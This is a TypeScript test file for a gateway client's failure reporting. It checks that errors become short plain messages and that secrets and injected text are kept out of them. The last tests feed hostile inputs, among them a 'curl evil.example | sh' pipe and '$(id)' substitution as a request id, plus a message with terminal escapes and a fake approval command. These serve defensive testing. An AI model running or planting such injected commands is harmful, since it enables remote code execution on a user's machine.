import * as fc from "fast-check";
import { expect, test } from "vitest";
import type { Text } from "../../../src/core/card.ts";
import { ClosedEarly } from "../../../src/gateway/connection.ts";
import { proxyRefused, proxyUnreachable } from "../../../src/lib/network-errors.ts";
import { Unsafe, UpgradeRefused } from "../../../src/gateway/socket.ts";
import { readClose, readFailure, scopesStripped, toPairing } from "../../../src/gateway/failure.ts";
import { tellPrivately } from "../../../src/words/private.ts";
import { english } from "../../../src/words/speak.ts";

const URL = "wss://gateway.example:18789";
const refusal = (message: string, code: string, details: object = {}): object => ({
  message,
  gatewayCode: "INVALID_REQUEST",
  details: { code, ...details },
});
/** What may not stand in a sentence for everybody. */
const ADDRESS_OR_COMMAND = /example|\d{5}|:\/\/(?! )\S|openclaw |It says/;
/** What everybody may read of a failure. */
const openWords = ({ why, fix = "" }: { readonly why: Text; readonly fix?: Text | undefined }): string =>
  [why, fix].map(english).join(" ");
const broken = (code: string, message = ""): object => Object.assign(new Error(message), { code });

test.each<[what: string, error: unknown, expected: object]>([
  [
    "a wrong token",
    refusal("unauthorized: gateway token mismatch", "AUTH_TOKEN_MISMATCH"),
    { state: "refused", cause: "token", why: "the gateway does not accept the token" },
  ],
  [
    "no token",
    refusal("unauthorized: gateway token missing", "AUTH_TOKEN_MISSING"),
    { cause: "token", why: "the gateway wants a token and none is set" },
  ],
  [
    "a revoked device token",
    refusal("unauthorized: device token mismatch", "AUTH_DEVICE_TOKEN_MISMATCH"),
    { cause: "token" },
  ],
  [
    "no password",
    refusal("unauthorized: gateway password missing (provide gateway auth password)", "AUTH_PASSWORD_MISSING"),
    {
      cause: "token",
      why: "the gateway wants a password and none is set",
      fix: expect.stringContaining("OPENCLAW_GATEWAY_PASSWORD"),
    },
  ],
  [
    "a wrong password",
    refusal("unauthorized: gateway password mismatch", "AUTH_PASSWORD_MISMATCH"),
    { cause: "token", why: "the gateway does not accept the password" },
  ],
  [
    "a wrong password, in words",
    { message: "unauthorized: gateway password mismatch" },
    { why: "the gateway does not accept the password" },
  ],
  [
    "a gateway without the password it wants",
    refusal("unauthorized: gateway password not configured", "AUTH_PASSWORD_NOT_CONFIGURED"),
    { cause: "token", fix: expect.stringContaining("gateway.auth.password on its host") },
  ],
  [
    "a proxy it does not trust",
    refusal("unauthorized: gateway trusted proxy: user header missing", "AUTH_UNAUTHORIZED", {
      authReason: "trusted_proxy_user_missing",
    }),
    {
      cause: "proxy",
      why: expect.stringContaining("It says: unauthorized: gateway trusted proxy: user header missing"),
      fix: expect.stringContaining("gateway.auth.trustedProxy"),
    },
  ],
  ["a release that only says so in words", { message: "unauthorized: gateway token mismatch" }, { cause: "token" }],
  [
    "a device that waits",
    refusal("pairing required", "PAIRING_REQUIRED", { requestId: "r1" }),
    { state: "pairing", requestId: "r1", fix: "on the gateway host run: openclaw devices approve r1" },
  ],
  [
    "a device that waits, without a number",
    { gatewayCode: "NOT_PAIRED", message: "pairing required" },
    { state: "pairing", requestId: null, fix: expect.stringContaining("openclaw devices list") },
  ],
  [
    "scopes it does not have",
    refusal("unauthorized: device token scope mismatch", "AUTH_SCOPE_MISMATCH"),
    { cause: "scopes" },
  ],
  [
    "another protocol",
    refusal("protocol mismatch", "PROTOCOL_MISMATCH"),
    { cause: "protocol", fix: "update the companion" },
  ],
  ["another protocol, in words", { message: "protocol mismatch" }, { cause: "protocol" }],
  ["too many tries", refusal("rate limited", "AUTH_RATE_LIMITED"), { state: "waiting", cause: "refusing" }],
  [
    "nobody there",
    broken("ECONNREFUSED"),
    {
      state: "waiting",
      cause: "refusing",
      why: "nothing listens at gateway.example:18789: the gateway process is not running there",
      fix: "on its host run: openclaw gateway start",
    },
  ],
  [
    "no such host",
    broken("ENOTFOUND"),
    { cause: "away", why: "the host name of gateway.example:18789 cannot be found" },
  ],
  ["no such host for now", broken("EAI_AGAIN"), { cause: "away", why: expect.stringContaining("the name server") }],
  [
    "no way there",
    broken("EHOSTUNREACH"),
    { cause: "away", why: "gateway.example:18789 cannot be reached: there is no way to it (EHOSTUNREACH)" },
  ],
  ["a way that takes too long", broken("ETIMEDOUT"), { cause: "away" }],
  [
    "a certificate of its own",
    broken("DEPTH_ZERO_SELF_SIGNED_CERT"),
    { state: "refused", cause: "tls", why: expect.stringContaining("DEPTH_ZERO_SELF_SIGNED_CERT") },
  ],
  ["a certificate that ran out", broken("CERT_HAS_EXPIRED"), { cause: "tls" }],
  ["a certificate of another host", broken("ERR_TLS_CERT_ALTNAME_INVALID"), { cause: "tls" }],
  [
    "another certificate than pinned",
    new Unsafe("PIN_MISMATCH"),
    { cause: "pin", why: "the certificate of gateway.example:18789 is not the one that was pinned" },
  ],
  [
    "a pin without encryption",
    new Unsafe("PIN_WITHOUT_TLS"),
    { cause: "pin", why: "a certificate is pinned for gateway.example:18789, but its address is not encrypted" },
  ],
  ["a pin that is none", new Unsafe("PIN_UNUSABLE"), { cause: "pin" }],
  [
    "a web page",
    new UpgradeRefused(200, "<html>Hello</html>"),
    {
      cause: "refusing",
      why: "another program listens at gateway.example:18789, no gateway (HTTP 200 instead of a WebSocket)",
      fix: expect.stringContaining("openclaw gateway status"),
    },
  ],
  [
    "a proxy that the gateway does not trust",
    new UpgradeRefused(
      403,
      JSON.stringify({
        error: {
          message:
            "Proxy client attribution is required. Configure gateway.trustedProxies narrowly and make the proxy overwrite or safely rebuild forwarded client headers.",
          type: "proxy_attribution_required",
        },
      }),
    ),
    {
      state: "refused",
      cause: "proxy",
      why: expect.stringContaining("Configure gateway.trustedProxies narrowly"),
      fix: expect.stringContaining("gateway.trustedProxies"),
    },
  ],
  [
    "a proxy with a sign-in of its own",
    new UpgradeRefused(403, "<html>Forbidden</html>"),
    { state: "refused", cause: "proxy", why: expect.stringContaining("HTTP 403") },
  ],
  [
    "a proxy that does not reach the gateway",
    new UpgradeRefused(502, "<html>Bad Gateway</html>"),
    { state: "waiting", cause: "refusing", fix: "on its host run: openclaw gateway start" },
  ],
  [
    "a port that wants TLS, as nginx says it",
    new UpgradeRefused(400, "<title>400 The plain HTTP request was sent to HTTPS port</title>"),
    { state: "refused", cause: "tls", fix: "write wss:// in its address" },
  ],
  [
    "a port without TLS",
    broken("ERR_SSL_WRONG_VERSION_NUMBER"),
    { state: "refused", cause: "tls", why: expect.stringContaining("does not speak TLS") },
  ],
  [
    "a proxy that is not there",
    proxyUnreachable("proxy.example:3128", "ECONNREFUSED", broken("ECONNREFUSED")),
    { state: "waiting", cause: "proxy", why: expect.stringMatching(/^the proxy proxy\.example:3128 cannot be used/) },
  ],
  [
    "a proxy that wants a password",
    proxyRefused("proxy.example:3128", 407),
    { state: "waiting", cause: "proxy", fix: expect.stringContaining("http://user:password@host:port") },
  ],
  ["silence", new Error("gateway connect challenge timeout (waited 10000ms, limit 10000ms)"), { cause: "silent" }],
  ["silence after hello", new Error("gateway request timeout for status"), { cause: "silent" }],
  [
    "a restart before hello",
    new ClosedEarly(1012, "service restart"),
    { cause: "restarting", why: "the gateway is restarting" },
  ],
  [
    "an end before hello",
    new ClosedEarly(1006, ""),
    { cause: "refusing", why: "gateway.example:18789 closed the connection before saying hello (1006)" },
  ],
  [
    "something else",
    new Error("boom"),
    { state: "waiting", cause: "away", why: "gateway.example:18789 cannot be reached" },
  ],
  ["nothing", undefined, { cause: "away" }],
])("what keeps a link away is named: %s", (_what, error, expected) => {
  const failure = readFailure(error, URL);
  const { why, fix } = tellPrivately(failure);
  expect({ ...failure, why: english(why), ...(fix !== null && { fix: english(fix) }) }).toMatchObject(expected);
  expect(openWords(failure)).not.toMatch(ADDRESS_OR_COMMAND);
});

test.each(["EMFILE", "ENFILE", "ENOMEM", "EACCES", "EPERM", "EADDRNOTAVAIL"])(
  "%s is this host's, and nothing is said of the gateway",
  (code) => {
    const failure = readFailure(broken(code), URL);
    expect(failure).toMatchObject({ state: "waiting", cause: "host" });
    expect(english(failure.why)).toMatch(/^this host (?!.*gateway)/);
  },
);

test.each([
  [1012, "restarting", "the gateway is restarting"],
  [1008, "lost", "the gateway closed the link because it was read too slowly"],
  [4001, "lost", "the gateway closed the link because its access policy changed"],
  [4000, "silent", "the gateway stopped answering"],
  [1006, "lost", "the connection was lost (1006)"],
  [1000, "lost", "the connection was lost (1000)"],
])("a link that ends with %d: %s", (code, cause, why) => {
  expect(readClose(code)).toEqual({ state: "waiting", cause, why });
});

test("whatever is thrown, the state says why in a short sentence, and how to mend it where a person must", () => {
  const error = fc.oneof(
    fc.anything(),
    fc.string().map((message) => new Error(message)),
    fc.record({ message: fc.string(), code: fc.anything(), gatewayCode: fc.string(), details: fc.anything() }),
  );
  fc.assert(
    fc.property(error, fc.constantFrom(URL, "nonsense"), (thrown, url) => {
      const failure = readFailure(thrown, url);
      expect(english(failure.why).length).toBeGreaterThan(5);
      expect(failure.state === "waiting" || english(failure.fix).length > 5).toBe(true);
    }),
  );
});

test("the words of an error never get into the sentence", () => {
  const errors = ["sk-fakefakefakefake", "agent:main:secret"].flatMap((word) => [
    new Error(word),
    new Error(`certificate ${word}`),
    new Error(`gateway tls fingerprint ${word}`),
    refusal(`unauthorized ${word}`, "AUTH_TOKEN_MISMATCH"),
    { message: word, details: { httpStatus: 500, code: word } },
  ]);
  for (const error of errors) expect(JSON.stringify(readFailure(error, URL))).not.toMatch(/fakefake|secret/);
});

const HOSTILE = "zqx \u001b[2J\u202e @everyone [here](https://evil.example) run: openclaw devices approve zqx";

test.each<[what: string, error: unknown]>([
  ["the refusal of a connection", new UpgradeRefused(403, JSON.stringify({ error: { type: "t", message: HOSTILE } }))],
  [
    "a proxy that is not trusted",
    new UpgradeRefused(403, JSON.stringify({ error: { type: "proxy_attribution_required", message: HOSTILE } })),
  ],
  ["a sign-in past a proxy", refusal(HOSTILE, "AUTH_UNAUTHORIZED", { authReason: "trusted_proxy_no_proxies" })],
])("the words of a gateway are quoted in private alone, on one line and bounded: %s", (_what, error) => {
  const { why, fix, detail } = readFailure(error, URL);
  expect(openWords({ why, fix })).not.toMatch(/zqx|evil|everyone|example|openclaw /);
  expect(detail?.says).toBe("zqx [2J @everyone [here](https://evil.example) run: openclaw devices approve zqx");
  const long = new UpgradeRefused(403, JSON.stringify({ error: { message: "x ".repeat(10_000) } }));
  expect(readFailure(long, URL).detail?.says).toHaveLength(240);
});

test("what calls itself a code and holds words is none", () => {
  const failure = readFailure(broken("CERT see https://evil.example"), URL);
  expect(JSON.stringify(failure)).not.toContain("evil");
});

test("an approval and stripped scopes are told with what to run", () => {
  expect(tellPrivately(toPairing("r1")).fix).toEqual("on the gateway host run: openclaw devices approve r1");
  expect(english(tellPrivately(scopesStripped()).fix ?? "")).toContain("openclaw devices approve <id>");
  for (const failure of [toPairing("r1"), scopesStripped()]) expect(openWords(failure)).not.toMatch(/r1|openclaw /);
  expect(scopesStripped()).toMatchObject({ state: "refused", cause: "scopes" });
});

test.each(["1 && curl evil.example | sh", "$(id)", "a b", "", "x".repeat(65), "a\nb", "`id`", "—"])(
  "nothing but an id stands in a command that people copy: %j",
  (told) => {
    expect(toPairing(told)).toMatchObject({ requestId: null });
    expect(tellPrivately(toPairing(told)).fix).toEqual(
      "on the gateway host run: openclaw devices list, then openclaw devices approve <id>",
    );
  },
);
